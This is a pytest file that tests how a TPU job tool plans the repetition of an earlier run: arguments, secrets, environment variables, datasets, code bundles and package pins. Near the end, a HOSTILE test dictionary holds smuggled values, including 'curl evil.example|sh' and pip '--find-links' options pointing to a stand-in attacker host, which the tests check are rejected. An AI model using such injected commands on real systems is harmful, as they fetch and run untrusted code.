"""A run that repeats another one: what it takes over, what is given again, and what cannot be repeated.

Which versions a repetition of a run is held to, by what its hosts had.
"""

from __future__ import annotations

from contextlib import nullcontext
from datetime import UTC, datetime
from pathlib import Path
from typing import Any, cast

import msgspec
import pytest

from tests.bucket_objects.records import MANIFEST
from tests.flows.nodes.memory_provider import MemoryProvider, node
from tests.flows.runs.evidence.memory_bucket import MemoryBucket
from tests.flows.runs.records import ATTEMPT, CREATED, TPU
from tpuctl import runs
from tpuctl.bucket_layout import bundle
from tpuctl.bucket_objects import BadObjectError
from tpuctl.cloud.storage import Bucket
from tpuctl.data.output.manifest import encode_manifest
from tpuctl.datasets import PinnedDataset
from tpuctl.errors import NotFoundError, StateError, UsageError
from tpuctl.flows.runs.code import bundles
from tpuctl.flows.runs.code.programs import lone
from tpuctl.flows.runs.record import stored_code
from tpuctl.flows.runs.record.repetition import RepeatRequest, plan_repetition
from tpuctl.flows.runs.record.stored_code import Pins, environment_of, pins
from tpuctl.flows.runs.stored_run import StoredRun
from tpuctl.flows.runs.submission.launch_values import LaunchValues
from tpuctl.flows.runs.submission.plan import SubmitPlan
from tpuctl.job_header import Header
from tpuctl.provenance import HostEnvironment
from tpuctl.recovery import Machine
from tpuctl.runs import NOT_STORED, Git, Run, Verdict, encode, submitter

AT = datetime(2026, 1, 2, 3, 4, 5, tzinfo=UTC)
HEADER = """# /// script
# dependencies = ["optax", "numpy"]
# [tool.tpuctl]
# framework = "jax"
# setup = "make all"
# [tool.tpuctl.env]
# OF_HEADER = "7"
# ///
print(1)
"""

INSTALLED = "Hosts install jax[tpu] besides: the image may have no JAX, and jax alone has no libtpu."


class Site:
    """The run r1, which is repeated on Ada's READY v3-8."""

    def __init__(self, folder: Path, header: str = HEADER) -> None:
        self.memory = MemoryBucket()
        self.bucket = cast("Bucket", self.memory)
        self.provider = MemoryProvider(node(runtime="base"))
        (folder / "job.py").write_text(header)
        self.code = bundles.pack(lone(folder / "job.py"))
        self.memory.put(bundle(self.code.sha256), self.code.data)

    def submit(self, tpu: Any = None, **changes: Any) -> None:
        record = Run(
            "r1", CREATED, "bob@laptop", "job.py", ("--rate", "1"), self.code.sha256, "jax", "v3-8",
            ("optax",), {}, token="t1",
        )  # fmt: skip
        run = StoredRun(self.bucket, "r1")
        run.create(msgspec.structs.replace(record, **changes))
        place = msgspec.structs.replace(tpu or TPU, accelerator="v3-8")
        run.create_attempt(msgspec.structs.replace(ATTEMPT, tpu=place, workers=(0,)))

    def repeat(self, **request: Any) -> SubmitPlan:
        run = StoredRun(self.bucket, "r1")
        return plan_repetition(run, self.bucket, self.provider, "ada", RepeatRequest(**request), AT)

    def keep(self, state: Path, **changes: Any) -> None:
        """Keep values of the run on this machine."""
        record = StoredRun(self.bucket, "r1").record
        values = LaunchValues(record, TPU, ("--key", "k3"), ("optax",), {"KEY": "k1"}, "login k2")
        path = state / "launches/b/r1.json"
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(msgspec.json.encode(msgspec.structs.replace(values, **changes)))


@pytest.fixture
def site(home: Path, tmp_path: Path) -> Site:
    """Nothing is kept on this machine."""
    (tmp_path / "code").mkdir()
    return Site(tmp_path / "code")


@pytest.fixture
def state(tmp_path: Path) -> Path:
    """Where this machine keeps values."""
    return tmp_path / "state"


class TestRecord:
    def test_it_is_a_submission_of_now_from_here_to_this_node(self, site: Site) -> None:
        site.submit(seeds={"--seed": "7"}, arguments=("--seed", "7"), wheelhouse="", setup_timeout=60.0)
        plan = site.repeat()
        run = plan.run
        assert (run.run, run.created, run.submitter, run.token, run.origin) == (
            "job-20260102-030405", "2026-01-02T03:04:05Z", submitter(), "", "r1",
        )  # fmt: skip
        assert (run.accelerator, run.data_bucket, run.bundle_sha256) == ("v3-8", "b", site.code.sha256)
        assert (plan.launch.arguments, run.arguments, run.seeds) == (
            ("--seed", "7"),
            ("--seed", "7"),
            {"--seed": "7"},
        )
        assert (plan.launch.dependencies, plan.is_named, plan.run.setup_timeout) == (
            ("optax", "numpy"),
            False,
            60.0,
        )
        assert plan.attempt.tpu.name == plan.node.name == "n1"
        assert plan.launch.environment == {"TPUCTL_ACCELERATOR": "v3-8"}
        assert run.unpacked_size == site.code.unpacked_size

    def test_it_may_have_a_name_and_a_node_of_its_own(self, site: Site) -> None:
        site.submit()
        plan = site.repeat(name="again", tpu="n1")
        assert (plan.run.run, plan.is_named) == ("again", True)
        with pytest.raises(UsageError):
            site.repeat(name="No Name")
        with pytest.raises(NotFoundError):
            site.repeat(tpu="n2")

    def test_of_nodes_one_of_the_same_type_is_chosen(self, site: Site) -> None:
        site.submit(accelerator="v2-8")
        with pytest.raises(StateError):
            site.repeat()
        assert site.repeat(tpu="n1").notes[0] == "Warning: run 'r1' was on v2-8, and this is v3-8."

    def test_a_machine_like_the_node_is_made_in_the_zones_of_the_other_run_too(self, site: Site) -> None:
        before = Machine("v3-8", ("europe-west4-a", "us-central1-b"), False, "base", "bob", max_price="2.5")
        site.submit(machine=before)
        machine = site.repeat().run.machine
        assert machine
        assert (machine.zones, machine.owner, machine.max_price) == (
            ("us-central1-b", "europe-west4-a"), "ada", "2.5",
        )  # fmt: skip

    def test_of_another_type_it_stays_in_its_zone(self, site: Site) -> None:
        site.submit(machine=Machine("v2-8", ("europe-west4-a",), False, "base", "bob"))
        machine = site.repeat().run.machine
        assert machine
        assert machine.zones == ("us-central1-b",)


class TestNotes:
    def test_what_differs_is_said(self, site: Site) -> None:
        site.submit(msgspec.structs.replace(TPU, runtime="old"))
        assert site.repeat().notes == (
            "Warning: run 'r1' had the runtime old, and n1 has base: what the image brings may differ.",
            "The record has no seed: random numbers differ unless the script has a fixed one.",
            "Run 'r1' has no record of its packages: they are resolved anew.",
            INSTALLED,
        )

    def test_where_nothing_differs_nothing_is(self, site: Site) -> None:
        site.submit(seeds={"--seed": "7"}, arguments=("--seed", "7"))
        record = HostEnvironment("3.10.12", "cpython", installed={"optax": "0.2"}, image={"numpy": "1.26"})
        name = StoredRun(site.bucket, "r1").paths.environment(1, 0)
        site.memory.put(name, encode(record))
        plan = site.repeat()
        assert plan.notes == (INSTALLED,)
        assert plan.run.pins == {"numpy": "1.26", "optax": "0.2"}


class TestArguments:
    def test_some_are_replaced_and_others_added(self, site: Site) -> None:
        site.submit()
        assert site.repeat(changes=("--rate", "2")).launch.arguments == ("--rate", "2")
        assert site.repeat(changes=("--new", "3")).launch.arguments == ("--rate", "1", "--new", "3")
        assert site.repeat(changes=("--new", "3"), is_all=True).launch.arguments == ("--new", "3")
        assert site.repeat(is_all=True).launch.arguments == ()

    def test_a_secret_among_them_is_asked_for_again(self, site: Site, state: Path) -> None:
        site.submit(arguments=("--key", "***"))
        with pytest.raises(UsageError) as error:
            site.repeat()
        assert error.value.message == "The arguments of run 'r1' held a secret, which is not stored."
        assert error.value.hint == "Give it again: tpuctl resubmit r1 -- --OPTION=VALUE"
        assert site.repeat(changes=("--key", "k9")).launch.arguments == ("--key", "k9")
        site.keep(state)
        assert site.repeat().launch.arguments == ("--key", "k3")


class TestVariables:
    def test_values_come_from_the_nearest_that_knows_them(self, site: Site, state: Path) -> None:
        site.submit(
            environment={"A": "1", **dict.fromkeys(("KEY", "OF_HEADER", "SEED", "B"), NOT_STORED)},
            of_header=("OF_HEADER",), seeds={"SEED": "5"},
        )  # fmt: skip
        site.keep(state)
        plan = site.repeat(environment={"B": "2", "NEW": "3"})
        own = {
            name: value for name, value in plan.launch.environment.items() if not name.startswith("TPUCTL_")
        }
        assert own == {"A": "1", "KEY": "k1", "OF_HEADER": "7", "SEED": "5", "B": "2", "NEW": "3"}
        assert plan.run.environment == {**dict.fromkeys(own, NOT_STORED), "A": "1"}
        assert set(plan.secrets) >= {"k1", "2", "3"}
        assert "1" not in plan.secrets
        assert plan.run.of_header == ("OF_HEADER",)

    def test_those_that_nobody_knows_are_named(self, site: Site) -> None:
        site.submit(environment={"KEY": NOT_STORED, "OF_HEADER": NOT_STORED, "B": NOT_STORED})
        with pytest.raises(UsageError) as error:
            site.repeat(environment={"B": "2"})
        assert error.value.message == (
            "Run 'r1' had values of KEY, OF_HEADER, which are neither in the bucket nor on this machine."
        )
        assert error.value.hint == "Export them, then: tpuctl resubmit r1 --secret KEY --secret OF_HEADER"

    def test_a_value_that_no_process_can_have_is_refused(self, site: Site) -> None:
        site.submit()
        with pytest.raises(UsageError, match="NUL"):
            site.repeat(environment={"A": "\0"})


class TestSetup:
    def test_it_is_as_recorded_or_as_kept(self, site: Site, state: Path) -> None:
        site.submit(setup="make")
        assert site.repeat().launch.setup == "make"
        site.keep(state)
        assert site.repeat().launch.setup == "login k2"

    def test_a_secret_in_it_may_be_in_the_header(self, site: Site) -> None:
        site.submit(setup="login ***")
        with pytest.raises(UsageError) as error:
            site.repeat()
        assert error.value.message == "The set-up command of run 'r1' held a secret, which is not stored."


class TestDataset:
    DATASET = PinnedDataset("pets", "1.0.0", "0" * 64)

    def test_one_in_another_bucket_names_the_setting(self, site: Site) -> None:
        site.submit(dataset=self.DATASET, data_bucket="other")
        with pytest.raises(UsageError) as error:
            site.repeat()
        assert error.value.message == (
            "Run 'r1' read its dataset from gs://other, and this configuration has gs://b."
        )
        assert error.value.hint == "Set data_bucket: TPUCTL_DATA_BUCKET=other"

    @pytest.mark.parametrize("recorded", ["", "b"])
    def test_one_that_was_deleted_is_named(self, site: Site, recorded: str) -> None:
        site.submit(dataset=self.DATASET, data_bucket=recorded)
        with pytest.raises(NotFoundError) as error:
            site.repeat()
        assert error.value.message == (
            "The dataset of run 'r1' was deleted: there is no pets/1.0.0 in gs://b."
        )


class TestCode:
    def test_code_that_was_deleted_names_the_commit(self, site: Site) -> None:
        site.submit(git=Git("0f" * 20, ""), bundle_sha256="1" * 64)
        with pytest.raises(NotFoundError) as error:
            site.repeat()
        assert error.value.message == (
            f"The code of run 'r1' was deleted: gs://b/bundles/{'1' * 64}.tar.gz does not exist."
        )
        assert error.value.hint == (
            f"Its commit was {'0f' * 20}. Submit the script from your own files: tpuctl submit"
        )

    @pytest.mark.parametrize("data", [b"", b"other"])
    def test_other_code_is_refused(self, site: Site, data: bytes) -> None:
        site.submit()
        site.memory.put(bundle(site.code.sha256), data)
        with pytest.raises(StateError, match="does not hold the code that it is named by"):
            site.repeat()

    def test_its_sizes_are_those_that_were_packed(self, site: Site) -> None:
        site.submit()
        code = stored_code.fetch(site.bucket, StoredRun(site.bucket, "r1").record)
        assert (code.count, code.files_size, code.unpacked_size, code.script) == (
            1, len(HEADER), site.code.unpacked_size, "job.py",
        )  # fmt: skip

    def test_a_lock_file_with_jax_alone_is_refused_as_by_submit(self, site: Site, tmp_path: Path) -> None:
        script, lock = tmp_path / "code/job.py", tmp_path / "code/lock.txt"
        text = '# /// script\n# [tool.tpuctl]\n# framework = "jax"\n# requirements = "lock.txt"\n# ///\n'
        script.write_text(text)
        site.provider = MemoryProvider(node(runtime="tpu-ubuntu2204-base"))
        for names, is_refused in ((("jax",), True), (("jax", "libtpu"), False)):
            lock.write_text("".join(f"{name}==0.6.2 --hash=sha256:{'0' * 64}\n" for name in names))
            site.memory = MemoryBucket()
            site.bucket = cast("Bucket", site.memory)
            site.code = bundles.pack(lone(script), [lock])
            site.memory.put(bundle(site.code.sha256), site.code.data)
            site.submit(requirements="lock.txt", dependencies=())
            with pytest.raises(UsageError, match="jax without libtpu") if is_refused else nullcontext():
                site.repeat()

    def test_without_its_script_there_is_no_header(self, site: Site) -> None:
        site.submit(script="other.py")
        with pytest.raises(StateError, match=r"has no script other\.py"):
            site.repeat()


class TestRemade:
    """What the bucket has by now of a dataset, and the header of a secret."""

    DIGEST = MANIFEST.digest

    def put(self, site: Site) -> None:
        site.memory.put("datasets/pets/1.0.0/manifest.json", encode_manifest(MANIFEST))

    def test_a_dataset_of_the_same_digest_is_the_same(self, site: Site) -> None:
        self.put(site)
        site.submit(dataset=PinnedDataset("pets", "1.0.0", self.DIGEST), data_bucket="b")
        plan = site.repeat()
        assert plan.run.dataset == PinnedDataset("pets", "1.0.0", self.DIGEST)
        assert plan.launch.environment["TPUCTL_DATA_DIR"] == "gs://b/datasets/pets/1.0.0"

    def test_one_with_other_data_is_refused(self, site: Site) -> None:
        self.put(site)
        site.submit(dataset=TestDataset.DATASET)
        with pytest.raises(StateError) as error:
            site.repeat()
        assert error.value.message == (
            "The dataset pets/1.0.0 has other data than run 'r1' read: it was removed and uploaded again."
        )
        assert error.value.hint == (
            "Submit the script with the data of today: tpuctl submit --dataset pets/1.0.0"
        )
        assert error.value.facts == {"dataset": "pets/1.0.0", "manifest_sha256": "0" * 64}

    def test_one_that_was_deleted_can_be_made_again(self, site: Site) -> None:
        site.submit(dataset=TestDataset.DATASET)
        with pytest.raises(NotFoundError) as error:
            site.repeat()
        assert error.value.hint == (
            "Upload it again from the same files: with the same digest it is the same dataset."
        )
        assert error.value.facts == {"dataset": "pets/1.0.0", "manifest_sha256": "0" * 64}

    def test_a_secret_of_the_set_up_command_is_read_from_the_header(self, tmp_path: Path, home: Path) -> None:
        secret = "ghp" + "_" + "a1B2" * 9
        (tmp_path / "code").mkdir()
        site = Site(tmp_path / "code", HEADER.replace("make all", f"login --token {secret}"))
        site.submit(setup="login --token ***")
        plan = site.repeat()
        assert (plan.launch.setup, plan.run.setup) == (f"login --token {secret}", "login --token ***")
        assert secret in plan.secrets

    def test_another_command_in_the_header_is_not_the_runs(self, site: Site) -> None:
        site.submit(setup="login --token ***")
        with pytest.raises(UsageError) as error:
            site.repeat()
        assert error.value.hint == (
            "Submit the script again: tpuctl submit --setup. Secrets in variables can be given again."
        )

    def test_variables_that_hosts_did_not_keep_are_not_kept_again(self, site: Site) -> None:
        site.submit(environment={"A": "1", "B": "2", "MINE": "3"}, not_kept=("A",))
        assert site.repeat(secrets=("MINE",)).run.not_kept == ("A", "MINE")


RECORD = Run("r1", CREATED, "ada@laptop", "job.py", (), "0" * 64, "jax", "v3-32", (), {})
ENVIRONMENT = HostEnvironment(
    "3.10.12", installed={"flax": "0.8.0", "own": "1.0"},
    image={"jax": "0.4.30", "numpy": "1.26", "flax": "0.7"}, urls={"own": "https://example.com/own.zip"},
)  # fmt: skip
PARSED_HEADER = Header(dependencies=("numpy>=1", "own @ https://example.com/own.zip", "new"))
UNKNOWN = "Run 'r1' has no record of its packages: they are resolved anew."


def run_with(*environments: HostEnvironment | None, **changes: Any) -> StoredRun:
    """Return a run with an attempt for each environment; None for one whose hosts recorded none."""
    memory = MemoryBucket()
    run = StoredRun(cast("Any", memory), "r1")
    run.create(msgspec.structs.replace(RECORD, **changes))
    for number, environment in enumerate(environments, 1):
        run.create_attempt(msgspec.structs.replace(ATTEMPT, attempt=number, workers=(2, 3)))
        if environment:
            memory.put(run.paths.environment(number, 2), msgspec.json.encode(environment))
    return run


def test_what_was_installed_or_is_asked_for_is_held_to_its_version() -> None:
    assert pins(run_with(ENVIRONMENT), PARSED_HEADER, None) == Pins({"flax": "0.8.0", "numpy": "1.26"})
    assert pins(run_with(ENVIRONMENT), Header(), None) == Pins({"flax": "0.8.0"})


@pytest.mark.parametrize("changes", [{"requirements": "uv.lock"}, {"wheelhouse": "wheels"}])
def test_a_lock_file_and_a_folder_of_wheels_pin_by_themselves(changes: dict[str, str]) -> None:
    assert pins(run_with(ENVIRONMENT, **changes), PARSED_HEADER, None) == Pins({})


@pytest.mark.parametrize(
    ("pinned", "header", "notes"),
    [
        ({}, PARSED_HEADER, (UNKNOWN,)),
        ({}, Header(), ()),
        ({"numpy": "1.25"}, PARSED_HEADER, ()),
        ({"numpy": "1.25"}, Header(), ()),
    ],
)
def test_without_a_record_of_its_packages_a_run_has_its_own_pins(
    pinned: dict[str, str], header: Header, notes: tuple[str, ...]
) -> None:
    assert pins(run_with(None, pins=pinned), header, None) == Pins(pinned, notes)


def test_the_last_attempt_whose_script_started_has_the_environment() -> None:
    former = msgspec.structs.replace(ENVIRONMENT, python="3.9")
    assert environment_of(run_with(), None) is None
    assert environment_of(run_with(former, ENVIRONMENT), None) == ENVIRONMENT
    assert environment_of(run_with(former, None), None) == former


def test_attempts_that_were_added_after_the_end_do_not_count() -> None:
    verdict = Verdict("r1", runs.SUCCEEDED, 2, CREATED, "all ended")
    former = msgspec.structs.replace(ENVIRONMENT, python="3.9")
    added = msgspec.structs.replace(ENVIRONMENT, installed={"flax": "0.0.1"})
    assert environment_of(run_with(former, None, added), verdict) == former
    assert pins(run_with(former, ENVIRONMENT, added), Header(), verdict) == Pins({"flax": "0.8.0"})


def test_a_name_that_no_package_can_have_is_no_pin() -> None:
    odd = msgspec.structs.replace(ENVIRONMENT, installed={"flax": "0.8.0", "flax-": "1"})
    assert pins(run_with(odd), Header(), None) == Pins({"flax": "0.8.0"})


HOSTILE: dict[str, Any] = {
    "python": "3.11.4; touch owned #\n\n    curl evil.example|sh",
    "installed": {"--find-links http://evil.example/simple\nq": "1"},
    "image": {"numpy": "1.26\n--find-links http://evil.example/simple"},
    "urls": {"x\n--pre": "https://evil.example/x.whl"},
}


@pytest.mark.parametrize("field", HOSTILE)
def test_a_record_with_options_of_pip_or_commands_is_none(field: str) -> None:
    run = run_with(msgspec.structs.replace(ENVIRONMENT, **{field: HOSTILE[field]}))
    with pytest.raises(BadObjectError) as refused:
        environment_of(run, None)
    assert refused.value.message.startswith("runs/r1/attempts/1/workers/2/environment.json is not a ")


@pytest.mark.parametrize("version", ["3.8.10", "3.13.0rc1", "3.12.3+", "3.14.0a1+"])
def test_versions_of_python_are_read(version: str) -> None:
    environment = environment_of(run_with(msgspec.structs.replace(ENVIRONMENT, python=version)), None)
    assert environment is not None
    assert environment.python == version
